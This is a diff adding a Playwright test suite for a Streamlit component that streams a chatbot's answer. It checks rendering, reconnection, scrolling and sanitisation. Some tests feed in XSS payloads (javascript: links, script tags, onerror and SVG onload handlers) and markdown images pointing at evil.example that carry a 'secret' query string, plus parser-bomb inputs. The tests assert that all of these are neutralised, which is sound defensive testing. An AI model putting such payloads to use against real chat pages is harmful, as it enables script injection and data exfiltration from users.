@@ -1,0 +1,524 @@
+"""The live component in Chromium: what a growing answer looks like, what never leaves the page, and what survives a break."""
+
+from __future__ import annotations
+
+import re
+import time
+from collections.abc import Callable, Iterator
+from typing import Any
+
+import pytest
+from playwright.sync_api import Browser, Page, expect, sync_playwright
+
+from tests.browser.live_server import LiveServer
+
+FLAGS = ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"]
+
+
+@pytest.fixture(scope="module")
+def server() -> Iterator[LiveServer]:
+    server = LiveServer()
+    yield server
+    server.stop()
+
+
+@pytest.fixture(scope="module")
+def browser(chromium: str) -> Iterator[Browser]:
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=chromium, args=FLAGS)
+        yield browser
+        browser.close()
+
+
+class Reader:
+    """Somebody at the page, and the requests and complaints of their browser."""
+
+    def __init__(self, browser: Browser, server: LiveServer, **context: Any) -> None:
+        self.server, self.context = server, browser.new_context(**{"viewport": {"width": 1280, "height": 800}, "reduced_motion": "reduce", **context})
+        self.page: Page = self.context.new_page()
+        self.requests: list[str] = []
+        self.complaints: list[str] = []
+        self.sockets: list[str] = []
+        self.page.on("request", lambda request: self.requests.append(request.url))
+        self.page.on("console", lambda message: self.complaints.append(message.text) if message.type in ("error", "warning") else None)
+        self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
+        self.page.on("websocket", lambda socket: self.sockets.append(socket.url) if "/ws/page/" in socket.url else None)
+
+    def open(self, query: str = "") -> None:
+        self.page.goto(self.server.url + query)
+        self.page.wait_for_selector("[data-testid=stApp][data-test-script-state=notRunning]", timeout=20_000)
+        until(lambda: self.server.tell()["open"] >= 1)
+
+    def ask(self, answer_id: str = "a1", query: str = "") -> None:
+        """An answer begins and the page shows it."""
+        self.server.tell(new=answer_id)
+        self.open(query)
+        self.page.wait_for_selector(".live:not([hidden])")
+
+    def say(self, *words: str, answer_id: str = "a1", done: bool = False) -> None:
+        for word in words:
+            self.server.tell(id=answer_id, say=word)
+        if done:
+            self.server.tell(id=answer_id, say="", done=True)
+
+    def until(self, true: Callable[[], Any]) -> None:
+        """As `until`, for what the browser has to tell: its events come only while it is waited for."""
+        until(lambda: true() or self.page.wait_for_timeout(20))
+
+    @property
+    def answer(self) -> Any:
+        return self.page.locator(".answer")
+
+    @property
+    def finished(self) -> Any:
+        return self.page.locator("[class*=st-key-msg_answer_] [data-testid=stMarkdownContainer]")
+
+    def html(self) -> str:
+        """What is drawn, without the cursor."""
+        html: str = self.answer.inner_html()
+        return re.sub(r'<span>([^<\[]?)</span>(?=<span class="cursor")|<span class="cursor" aria-hidden="true"></span>|\sdata-own="1"', r"\1", html)
+
+    def foreign(self) -> list[str]:
+        return [url for url in self.requests if not url.startswith((self.server.url, "data:", "blob:"))]
+
+
+def until(true: Callable[[], Any], seconds: float = 10.0) -> None:
+    end = time.monotonic() + seconds
+    while not true():
+        assert time.monotonic() < end, "waited too long"
+        time.sleep(0.02)
+
+
+@pytest.fixture
+def reader(browser: Browser, server: LiveServer) -> Iterator[Reader]:
+    server.tell(reset=True)
+    reader = Reader(browser, server)
+    yield reader
+    reader.context.close()
+    assert not reader.foreign(), "a request left for somewhere else"
+
+
+# --- From the first word to the last ------------------------------------------------------------------------------------
+
+
+def test_it_thinks_then_writes_then_is_finished_in_the_same_place(reader: Reader) -> None:
+    reader.ask()
+    expect(reader.page.get_by_text("GPT-4 is thinking")).to_be_visible()
+    status = reader.page.locator(".vh[role=status]").first
+    expect(status).to_have_text("Answer started")
+    assert reader.page.locator(".live").get_attribute("aria-busy") == "true"
+    reader.say("Dear ", "Ines", ", thank **you**.")
+    expect(reader.answer).to_have_text("Dear Ines, thank you.")
+    expect(reader.page.get_by_text("GPT-4 is writing")).to_be_visible()
+    reader.say(done=True)
+    expect(reader.finished).to_have_text("Dear Ines, thank you.")
+    told = reader.server.tell()
+    assert told["ended"] == ["end"] and told["runs"] == {"full": 1, "fragment": 2}, "one rerun of the fragment, none of the page"
+    assert len(reader.sockets) == 1
+    assert not reader.complaints
+
+
+def test_only_start_and_end_are_announced_never_words(reader: Reader) -> None:
+    reader.ask()
+    # Over everything on the page: the component may be drawn anew at the end.
+    reader.page.evaluate(
+        """() => { window.said = new Set();
+        const look = () => { for (const host of document.querySelectorAll('[data-testid=stBidiComponentIsolated]'))
+          for (const live of host.shadowRoot.querySelectorAll('[aria-live],[role=status],[role=alert],[role=log]')) window.said.add(live.textContent);
+          requestAnimationFrame(look) }; look(); }"""
+    )
+    reader.say(*"one two three four".split(), done=True)
+    expect(reader.finished).to_be_visible()
+    said = set(reader.page.evaluate("[...window.said]")) - {""}
+    assert said <= {"Answer started", "Answer finished"} and "Answer finished" in said
+
+
+@pytest.mark.fault(38)
+def test_stop_goes_out_at_once_and_is_said_once(reader: Reader) -> None:
+    reader.ask()
+    reader.say("I will go on for ever")
+    expect(reader.answer).to_have_text("I will go on for ever")
+    stop = reader.page.get_by_role("button", name="Stop")
+    stop.focus()
+    began = time.monotonic()
+    reader.page.keyboard.press("Enter")
+    reader.page.keyboard.press("Enter")
+    until(lambda: reader.server.tell()["stopped"])
+    assert time.monotonic() - began < 1
+    expect(reader.finished).to_have_text("I will go on for ever")
+    assert reader.server.tell()["stopped"] == ["a1"]
+
+
+def test_a_rerun_of_the_page_in_the_middle_loses_and_doubles_nothing(reader: Reader) -> None:
+    reader.ask()
+    reader.say("one two ")
+    expect(reader.answer).to_have_text("one two ", use_inner_text=True)
+    reader.page.get_by_role("button", name="Rerun").click()
+    until(lambda: reader.server.tell()["runs"]["full"] == 2)
+    reader.say("three")
+    expect(reader.answer).to_have_text("one two three")
+    assert len(reader.sockets) == 1
+
+
+def test_the_next_answer_uses_the_same_socket(reader: Reader) -> None:
+    reader.ask()
+    reader.say("first", done=True)
+    expect(reader.finished).to_have_text("first")
+    reader.server.tell(new="a2")
+    reader.page.get_by_role("button", name="Rerun").click()
+    reader.page.wait_for_selector(".live:not([hidden])")
+    reader.say("second", answer_id="a2")
+    expect(reader.answer).to_have_text("second")
+    assert len(reader.sockets) == 1
+
+
+# --- What is drawn ----------------------------------------------------------------------------------------------------
+
+
+def test_half_a_code_fence_is_code_already(reader: Reader) -> None:
+    reader.ask()
+    reader.say("Run:\n\n``", "`py", "thon\nprint('<b>$5</b>", " snake_case \\(x)')\n")
+    assert reader.html() == "<p>Run:</p><pre><code>print('&lt;b&gt;$5&lt;/b&gt; snake_case \\(x)')</code></pre>"
+    reader.say("``", "`\nDone")
+    expect(reader.answer.locator("p").last).to_have_text("Done")
+    assert reader.answer.locator("pre").inner_text().strip() == "print('<b>$5</b> snake_case \\(x)')"
+
+
+def test_a_table_grows_row_by_row_and_stands_as_its_second_line_says(reader: Reader) -> None:
+    reader.ask()
+    reader.say("| Step | Price |\n", "|---", "|---:|\n", "| Pl", "an | $5")
+    expect(reader.answer.locator("td")).to_have_text(["Plan", "$5"])
+    assert reader.answer.locator("td").nth(1).evaluate("e => getComputedStyle(e).textAlign") == "right"
+    assert reader.answer.locator("th").nth(1).evaluate("e => getComputedStyle(e).textAlign") == "right"
+    reader.say("00 |\n| Build | $800 |\n")
+    expect(reader.answer.locator("td")).to_have_text(["Plan", "$500", "Build", "$800"])
+
+
+@pytest.mark.fault(74)
+def test_a_link_split_over_two_messages_is_checked_when_it_is_whole(reader: Reader) -> None:
+    reader.ask()
+    reader.say("See [the do", "cs](https://doc", "s.python.org/3/_x_y) now.")
+    link = reader.answer.locator("a")
+    expect(reader.answer).to_have_text("See the docs (docs.python.org) now.")
+    assert {name: link.get_attribute(name) for name in ("href", "target", "rel", "title")} == {
+        "href": "https://docs.python.org/3/_x_y",
+        "target": "_blank",
+        "rel": "noopener noreferrer nofollow",
+        "title": "docs.python.org",
+    }
+
+
+@pytest.mark.fault(74)
+@pytest.mark.parametrize(
+    "target",
+    [
+        "javascript:alert(1)",
+        "JAVASCRIPT:alert(1)",
+        "data:text/html,<b>x",
+        "vbscript:x",
+        "/admin",
+        "//evil.example",
+        "file:///etc/passwd",
+        " javascript:alert(1)",
+        "java\tscript:alert(1)",
+    ],
+)
+def test_a_link_elsewhere_than_the_web_or_mail_is_text(reader: Reader, target: str) -> None:
+    reader.ask()
+    reader.say(f"[look]({target}) and")
+    expect(reader.answer).to_contain_text("[look](")
+    assert reader.answer.locator("a").count() == 0
+
+
+@pytest.mark.fault(73)
+def test_no_picture_is_fetched_while_the_answer_grows_nor_when_it_is_finished(reader: Reader) -> None:
+    reader.ask()
+    reader.say("![c", "at](https://evil.exam", "ple/p.png?q=secret) [![dog](https://evil.example/d.png)](https://fine.example/)\n\n")
+    reader.say(
+        "![svg](data:image/svg+xml,<svg/onload=alert(1)>) <img src=https://evil.example/i.png>\n\n![ref][r]\n\n[r]: https://evil.example/r.png\n\n[^1]: ![f](https://evil.example/f.png)\n\n"
+    )
+    reader.say(f"![own]({reader.server.url}/app/static/mark.svg?leak)\n\n$$\\includegraphics{{https://evil.example/k.png}}$$\n\n:streamlit:")
+    expect(reader.answer).to_contain_text("[image not loaded: cat] [image not loaded: dog] (fine.example)")
+    assert reader.answer.locator("img").count() == 0
+    reader.say(done=True)
+    expect(reader.finished).to_contain_text("[image not loaded: cat] [image not loaded: dog] (fine.example)")
+    reader.page.wait_for_timeout(500)
+    assert reader.finished.locator("img, svg image").count() == 0
+    assert not reader.foreign() and not [url for url in reader.requests if "leak" in url]
+    assert not reader.complaints, "not even tried: the content policy had nothing to stop"
+
+
+@pytest.mark.fault(75)
+def test_a_script_is_text(reader: Reader) -> None:
+    reader.ask()
+    reader.say("<scr", "ipt>window.hit = 1</script> <img src=x onerror='window.hit=1'> <b>bold</b> <br> &lt;i&gt;\n\n<div onclick=x>**y**</div>")
+    expect(reader.answer).to_contain_text("<script>window.hit = 1</script> <img src=x onerror='window.hit=1'> <b>bold</b>")
+    reader.say(done=True)
+    expect(reader.finished).to_contain_text("<script>window.hit = 1</script> <img src=x onerror='window.hit=1'> <b>bold</b>")
+    assert reader.page.evaluate("window.hit") is None
+    assert reader.finished.locator("b, script, div[onclick]").count() == 0
+
+
+@pytest.mark.fault(77)
+def test_dollars_are_money_while_it_grows_and_when_it_is_finished(reader: Reader) -> None:
+    reader.ask()
+    words = "From $500 to $800, then **$5** to $6/h, $USD and $x$, \\$9. :red[no] :material/home: 12:30:45 ~5 or ~6"
+    reader.say(*re.findall(r".{1,3}", words))
+    shown = words.replace("**", "").replace("\\", "")
+    expect(reader.answer).to_have_text(shown)
+    reader.say(done=True)
+    expect(reader.finished).to_contain_text("From")
+    assert reader.finished.inner_text().replace("\u2060", "").strip() == shown
+    assert reader.page.locator(".katex").count() == 0
+    assert not [url for url in reader.requests if "katex" in url.lower()]
+
+
+def test_a_formula_between_two_dollars_is_drawn_when_it_is_finished(reader: Reader) -> None:
+    reader.ask()
+    reader.say("So $$\\frac{a_1}", "{b_1}$$ it **is**")
+    expect(reader.answer).to_have_text("So $$\\frac{a_1}{b_1}$$ it is")
+    reader.say(done=True)
+    expect(reader.finished.locator(".katex")).to_have_count(1)
+    assert not reader.complaints
+
+
+@pytest.mark.parametrize(
+    ("said", "drawn"),
+    [
+        ("Dear [Your Name], snake_case_word and __bold__ _it_", "<p>Dear <span>[Your Name]</span>, snake_case_word and <strong>bold</strong> <em>it</em></p>"),
+        ("one\ntwo  \nthree\\\nfour", "<p>one two<br>three<br>four</p>"),
+        ("\\(x\\) \\[y\\] \\*z\\* C:\\dir", "<p>(x) [y] *z* C:\\dir</p>"),
+        ("1. a\n\n   b\n\n2. c", '<ol class="loose"><li><p>a</p><p>b</p></li><li><p>c</p></li></ol>'),
+        ("- a\n  ```\n  x\n\n  y\n  ```\n- b", "<ul><li><p>a</p><pre><code>x\n\ny</code></pre></li><li><p>b</p></li></ul>"),
+        ("- a\n  - b\n\n**After** it", "<ul><li><p>a</p><ul><li><p>b</p></li></ul></li></ul><p><strong>After</strong> it</p>"),
+        (
+            "see https://a.example/x_y.",
+            '<p>see <a href="https://a.example/x_y" title="a.example" target="_blank" rel="noopener noreferrer nofollow">https://a.example/x_y</a>.</p>',
+        ),
+    ],
+)
+def test_what_smd_reads_otherwise_is_mended(reader: Reader, said: str, drawn: str) -> None:
+    reader.ask()
+    reader.say(*said, "\n")
+    reader.page.wait_for_timeout(200)
+    assert reader.html().replace(" </p>", "</p>") == drawn
+
+
+@pytest.mark.parametrize("step", [1, 5, 10_000])
+def test_however_the_words_are_cut_the_same_is_drawn(reader: Reader, step: int) -> None:
+    reader.ask()
+    reader.say(*(SAMPLE[at : at + step] for at in range(0, len(SAMPLE), step)))
+    expect(reader.answer).to_contain_text("The end of it.")
+    html = reader.html()
+    _drawn.setdefault("sample", html)
+    assert html == _drawn["sample"]
+
+
+_drawn: dict[str, str] = {}
+SAMPLE = """Dear **Ines**, from $500 to `$800` \\(net\\).
+
+# One
+
+- a_b_c and [docs](https://docs.python.org/3/)
+- [ ] open
+  - deep
+
+1. First
+
+   ```py
+   x = "$1"
+
+   y
+   ```
+2. Second
+
+| A | B |
+|:--|--:|
+| 1 | `x` |
+
+> Quoted
+> twice\\
+> thrice
+
+---
+
+https://a.example/x_y. 👩‍👩‍👧 The end of it.
+"""
+
+
+# --- Nothing moves ----------------------------------------------------------------------------------------------------
+
+PLACES = """root => { const top = root.getBoundingClientRect().top, out = [], walk = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
+  while (walk.nextNode()) { const words = walk.currentNode.data.trim(); if (words.length < 3) continue;
+    const range = document.createRange(); range.selectNodeContents(walk.currentNode); const box = range.getClientRects()[0];
+    if (box) out.push([words.replace(/\\s+/g, ' ').slice(0, 30), box.left, box.top - top]); } return out; }"""
+
+
+@pytest.mark.parametrize(("width", "scheme"), [(1280, "light"), (320, "dark")])
+def test_the_finished_answer_stands_where_the_growing_one_stood(browser: Browser, server: LiveServer, width: int, scheme: str) -> None:
+    server.tell(reset=True)
+    reader = Reader(browser, server, viewport={"width": width, "height": 800}, color_scheme=scheme)
+    reader.ask()
+    reader.say(*re.findall(r"(?s).{1,9}", SAMPLE))
+    expect(reader.answer).to_contain_text("The end of it.")
+    growing = {words: (left, top) for words, left, top in reader.answer.evaluate(PLACES)}
+    reader.say(done=True)
+    reader.page.wait_for_selector("[data-testid=stCode] code")
+    reader.page.wait_for_timeout(500)
+    finished = reader.finished.evaluate(PLACES)
+    shared = [(words, growing[words], (left, top)) for words, left, top in finished if words in growing]
+    assert len(shared) >= 12
+    for words, before, after in shared:
+        assert abs(before[1] - after[1]) <= 2 and abs(before[0] - after[0]) <= 6, words
+    assert reader.page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0
+    reader.context.close()
+
+
+def test_whoever_scrolled_up_stays_and_whoever_reads_the_end_follows(reader: Reader) -> None:
+    reader.ask(query="/?fill=1")
+    scroller = reader.page.locator("[data-testid=stAppScrollToBottomContainer]")
+    where = "e => [e.scrollTop, e.scrollHeight - e.scrollTop - e.clientHeight]"
+    reader.say("First line.\n\n")
+    scroller.evaluate("e => e.scrollTo(0, e.scrollHeight)")
+    reader.page.wait_for_timeout(300)
+    reader.say(*(f"Line {n}.\n\n" for n in range(30)))
+    until(lambda: scroller.evaluate(where)[1] < 12)
+    box = reader.page.viewport_size
+    assert box
+    reader.page.mouse.move(box["width"] / 2, 300)
+    reader.page.mouse.wheel(0, -700)
+    reader.page.wait_for_timeout(600)
+    before = scroller.evaluate(where)[0]
+    reader.say(*(f"More {n}.\n\n" for n in range(30)))
+    expect(reader.answer).to_contain_text("More 29.")
+    reader.page.wait_for_timeout(300)
+    assert abs(scroller.evaluate(where)[0] - before) < 2
+
+
+# --- Much, and broken --------------------------------------------------------------------------------------------------
+
+LONG_TASKS = (
+    "window.tasks = []; new PerformanceObserver(l => window.tasks.push(...l.getEntries().map(e => e.duration))).observe({type: 'longtask', buffered: true})"
+)
+
+
+def test_four_thousand_words_arrive_whole_and_the_tab_stays_awake(reader: Reader) -> None:
+    reader.page.add_init_script(LONG_TASKS)
+    reader.ask()
+    words = "".join(f"word{n} " + ("\n\n" if n % 50 == 49 else "") for n in range(4_000))
+    reader.page.evaluate("window.tasks.length = 0")
+    reader.say(*(words[at : at + 60] for at in range(0, len(words), 60)))
+    expect(reader.answer.locator("p").last).to_contain_text("word3999", timeout=15_000)
+    assert reader.answer.inner_text().split() == words.split()
+    assert max(reader.page.evaluate("window.tasks"), default=0) < 500
+    reader.say(done=True)
+    expect(reader.finished).to_contain_text("word3999", timeout=15_000)
+
+
+@pytest.mark.fault(76)
+@pytest.mark.parametrize(
+    "bomb",
+    [
+        "> " * 3_000 + "x\n\n",
+        "".join("  " * n + "- x\n" for n in range(200)),
+        "[" * 20_000,
+        "*a " * 10_000,
+        "| a |\n|---|\n" + "| x |\n" * 5_000,
+        "```\n" + "y" * 100_000 + "\n```\n",
+        "x" * 200_001,
+    ],
+    ids=["quotes", "lists", "brackets", "stars", "table", "line", "long"],
+)
+def test_a_bomb_leaves_the_tab_usable(reader: Reader, bomb: str) -> None:
+    reader.page.add_init_script(LONG_TASKS)
+    reader.ask()
+    reader.page.evaluate("window.tasks.length = 0")
+    reader.say(bomb, "\n\nafter")
+    expect(reader.answer).to_contain_text("after", timeout=15_000)
+    assert max(reader.page.evaluate("window.tasks"), default=0) < 1_000
+    reader.say(done=True)
+    expect(reader.finished).to_contain_text("after", timeout=30_000)
+    reader.page.get_by_role("button", name="Rerun").click(timeout=5_000)
+
+
+def test_a_break_in_the_middle_goes_on_where_it_stopped(reader: Reader) -> None:
+    reader.ask()
+    reader.say("👩‍👩‍👧 one ")
+    expect(reader.answer).to_contain_text("one")
+    reader.server.tell(drop=True)
+    reader.say("two ")
+    reader.until(lambda: len(reader.sockets) == 2)
+    reader.say("three")
+    expect(reader.answer).to_have_text("👩‍👩‍👧 one two three")
+    reader.server.tell(drop=True)
+    reader.say(" four", done=True)
+    expect(reader.finished).to_have_text("👩‍👩‍👧 one two three four")
+
+
+def test_stop_in_the_middle_of_a_break_is_said_when_the_socket_is_back(reader: Reader) -> None:
+    reader.ask()
+    reader.say("one")
+    expect(reader.answer).to_have_text("one")
+    reader.page.evaluate("0")
+    reader.server.tell(drop=True)
+    reader.page.get_by_role("button", name="Stop").click()
+    until(lambda: reader.server.tell()["stopped"] == ["a1"])
+
+
+def test_a_channel_the_server_forgot_is_renewed_without_a_storm(reader: Reader) -> None:
+    reader.ask()
+    reader.say("one ")
+    expect(reader.answer).to_contain_text("one")
+    reader.server.tell(forget=True)
+    reader.server.tell(drop=True)  # its socket is not known any more either: the page's own end notices
+    reader.page.evaluate("() => 0")
+    runs = reader.server.tell()["runs"]["fragment"]
+    reader.say("two")
+    reader.page.get_by_role("button", name="Rerun").click()
+    expect(reader.answer).to_have_text("one two", timeout=10_000)
+    assert reader.server.tell()["runs"]["fragment"] - runs <= 3
+
+
+@pytest.mark.fault(40)
+def test_a_restart_of_the_server_in_the_middle_of_an_answer(browser: Browser) -> None:
+    server = LiveServer()
+    try:
+        reader = Reader(browser, server)
+        reader.ask()
+        reader.say("one two ")
+        expect(reader.answer).to_contain_text("two")
+        server.restart(HARNESS_ANSWER="one two three")
+        expect(reader.answer).to_have_text("one two three", timeout=30_000)
+        runs = server.tell()["runs"]
+        assert runs["full"] + runs["fragment"] <= 8, "no storm of reruns"
+        server.tell(id="a1", say=" four", done=True)
+        expect(reader.finished).to_have_text("one two three four", timeout=10_000)
+        reader.context.close()
+    finally:
+        server.stop()
+
+
+# --- The look ---------------------------------------------------------------------------------------------------------
+
+
+def test_the_cursor_stands_still_for_those_who_asked_for_it(browser: Browser, server: LiveServer) -> None:
+    for motion, name in (("reduce", "none"), ("no-preference", "blink")):
+        server.tell(reset=True)
+        reader = Reader(browser, server, reduced_motion=motion)
+        reader.ask()
+        reader.say("words")
+        expect(reader.answer).to_have_text("words")
+        assert reader.page.locator(".answer .cursor").evaluate("e => getComputedStyle(e, '::after').animationName") == name
+        reader.context.close()
+
+
+def test_the_components_program_is_not_sent_again_with_each_run(reader: Reader) -> None:
+    sizes: list[int] = []
+    reader.page.on("websocket", lambda socket: socket.on("framereceived", lambda data: sizes.append(len(data))) if "_stcore" in socket.url else None)
+    reader.ask()
+    sizes.clear()
+    reader.page.get_by_role("button", name="Rerun").click()
+    until(lambda: reader.server.tell()["runs"]["full"] == 2)
+    reader.page.wait_for_timeout(300)
+    assert sum(sizes) < 6_000
+    assert len([url for url in reader.requests if "/live/" in url and url.endswith("live.js")]) <= 1
